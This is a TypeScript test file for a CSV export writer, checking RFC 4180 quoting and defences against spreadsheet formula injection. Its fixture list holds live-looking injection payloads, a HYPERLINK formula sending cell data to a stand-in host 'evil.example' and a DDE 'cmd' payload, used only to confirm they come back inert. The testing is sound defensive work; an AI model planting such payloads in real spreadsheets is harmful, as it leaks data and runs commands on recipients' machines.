import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvCell, toCsv } from '../../src/export/csv.js';

/** What a spreadsheet shows for a text cell we wrote: formula starts carry the apostrophe. */
const shown = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

describe('CSV writer (RFC 4180, formula-injection safe)', () => {
  it('hostile cells come back from an independent CSV parser as inert text', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "=cmd|' /C calc'!A0",
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      'quote " inside, and a comma',
      'two\nlines',
      'crlf\r\nline',
      '',
      'plain',
    ];
    const csv = toCsv(['cell', 'n'], hostile.map((h, i) => [h, i]));
    assert.ok(csv.endsWith('\r\n') && csv.split('\r\n').length >= hostile.length + 2, 'CRLF line ends');
    const rows = parse(csv, { relax_quotes: false }) as string[][];
    assert.deepEqual(rows[0], ['cell', 'n']);
    assert.equal(rows.length, hostile.length + 1);
    hostile.forEach((h, i) => {
      assert.equal(rows[i + 1]![0], shown(h), JSON.stringify(h));
      assert.ok(!/^[=+\-@]/.test(rows[i + 1]![0]!), `no cell starts a formula: ${rows[i + 1]![0]}`);
      assert.equal(rows[i + 1]![1], String(i));
    });
  });

  it('numbers, booleans and nulls: numbers stay numbers (a negative is no formula), null is empty', () => {
    assert.equal(csvCell(-0.5), '-0.5');
    assert.equal(csvCell(42), '42');
    assert.equal(csvCell(Number.NaN), '');
    assert.equal(csvCell(true), 'true');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(undefined), '');
    assert.equal(csvCell('a"b'), '"a""b"');
  });

  it('any text survives a round trip through csv-parse (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'grapheme-composite' }), { minLength: 2, maxLength: 2 }), { maxLength: 8 }), (rows) => {
        const parsed = parse(toCsv(['a', 'b'], rows)) as string[][];
        assert.deepEqual(parsed.slice(1), rows.map((r) => r.map(shown)));
      }),
      { numRuns: 300 },
    );
  });
});
